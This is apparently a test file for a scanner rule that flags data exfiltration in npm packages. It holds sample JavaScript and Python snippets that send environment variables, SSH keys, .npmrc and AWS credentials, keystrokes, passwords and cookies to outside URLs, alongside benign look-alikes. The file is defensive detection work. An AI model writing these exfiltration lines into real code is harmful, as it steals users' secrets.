import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from './data-leak.rule.js';

const worst = (text: string, path = 'a.js') => findingsOf(rule, { [path]: text })[0]?.severity ?? 'nothing';

test("bad: what it looks for", () => {
  for (const code of [
    "fetch(u, { method: \"POST\", body: JSON.stringify(process.env) })",
    "const fs = require(\"fs\"); const k = fs.readFileSync(home + \"/.ssh/id_rsa\", \"utf8\"); require(\"https\").get(\"https://x.test/?\" + encodeURIComponent(k))",
    "navigator.clipboard.readText().then((t) => fetch(u, { body: t }))",
    "document.addEventListener(\"keydown\", (e) => { navigator.sendBeacon(u, e.key) })",
    "const x = new XMLHttpRequest(); x.open(\"POST\", u); x.send(Object.entries(process.env).join())",
    "function send(d) { fetch(u, { body: d }) } send(process.env)",
    "import { readFile } from \"node:fs/promises\"; const t = await readFile(`${home}/.npmrc`); const w = new WebSocket(u); w.send(t)",
    "const r = require(\"http\").request(o); r.write(Buffer.from(JSON.stringify({ ...process.env })).toString(\"base64\"))",
    "require(\"fs\").readFile(home + \"/.aws/credentials\", (err, data) => fetch(u, { body: data }))",
    "const all = () => process.env; fetch(u, { body: JSON.stringify(all()) })",
  ]) assert.equal(worst(code), 'critical', code);
});

test('bad: what is typed, cookies, and who installs it', () => {
  assert.equal(worst("let typed = \"\"; document.addEventListener(\"keydown\", (e) => { typed += e.key; fetch(u, { body: typed }) })"), 'critical');
  assert.equal(worst("const v = [...document.querySelectorAll(\"input[type=password]\")].map((f) => f.value); navigator.sendBeacon(u, v.join())"), 'critical');
  for (const code of [
    "new Image().src = \"https://example.org/?c=\" + document.cookie",
    "chrome.cookies.getAll({}, (all) => fetch(u, { body: JSON.stringify(all) }))",
    "const all = await browser.cookies.getAll({}); fetch(u, { body: JSON.stringify(all) })",
  ]) assert.equal(worst(code), 'high', code);
  const files = { 'a.js': 'const os = require("os"); fetch(u, { body: os.hostname() + os.userInfo().username })' };
  const severities = (scripts: Record<string, string>) => findingsOf(rule, files, { original: { scripts } }).map(({ severity }) => severity);
  assert.deepEqual([severities({ preinstall: 'node a.js' }), severities({ test: 'node a.js' })], [['high'], ['low']]);
});

test("bad: the same in Python", () => {
  for (const code of [
    "import os, requests\nrequests.post(u, json=dict(os.environ))",
    "import httpx\nwith open(f\"{home}/.ssh/id_rsa\") as f:\n    key = f.read()\nhttpx.post(u, data={\"k\": key})",
  ]) assert.equal(worst(code, 'a.py'), 'critical', code);
});

test("good: what only looks like it", () => {
  for (const code of [
    "fetch(u, { headers: { authorization: process.env.API_KEY } })",
    "const { TOKEN } = process.env; fetch(u, { headers: { TOKEN } })",
    "document.addEventListener(\"keydown\", (e) => move(e.key)); fetch(u)",
    "navigator.clipboard.readText().then(show); fetch(u)",
    "const config = { ...process.env }; start(config); fetch(\"https://example.org\")",
    "fs.readFileSync(\"data.json\"); fetch(u, { body: data })",
    "spawn(\"x\", { env: process.env })",
    "const id = /id=(\\w+)/.exec(document.cookie)[1]; picture.src = \"a.png\"",
    "const c = document.cookie.split(\";\")[0]; fetch(u, { headers: { c } })",
    "document.querySelector(\"input[type=text]\").value = x; fetch(u, { body: x })",
  ]) assert.equal(worst(code), 'nothing', code);
});

test("good: the same in Python", () => {
  for (const code of [
    "import os, requests\nrequests.get(u, headers={\"a\": os.environ[\"TOKEN\"]})",
    "import requests\nwith open(\"data.json\") as f:\n    requests.post(u, data=f.read())",
  ]) assert.equal(worst(code, 'a.py'), 'nothing', code);
});

test('good: one member of an object is sent, another holds the environment', () => {
  for (const code of [
    'const o = { url: u }; o.env = process.env; fetch(o.url)',
    'class A { constructor(u) { this.url = u; this.env = process.env } send() { fetch(this.url) } }',
    'const l = []; l.push(process.env.HOME); fetch(u, { body: l.join() })',
  ]) assert.equal(worst(code), 'nothing', code);
});

test('the own name of a computer: its look-up tells nobody, a message does', () => {
  const severity = (code: string) => findingsOf(rule, { 'a.js': `const os = require("os"); const name = os.hostname(); ${code}` }, { original: { scripts: { install: 'node a.js' } } })[0]?.severity ?? 'nothing';
  assert.deepEqual([severity('require("dns").lookup(name)'), severity('require("net").isIP(name)'), severity('fetch(name)'), severity('fetch(u, { body: name })'), severity('require("dns").lookup(name + zone)')], ['nothing', 'nothing', 'high', 'high', 'high']);
});

test('good: a setting that is only compared', () => {
  assert.equal(worst('const all = process.env; fetch(typeof all === "object" ? u : v, { body: all === b })'), 'nothing');
});
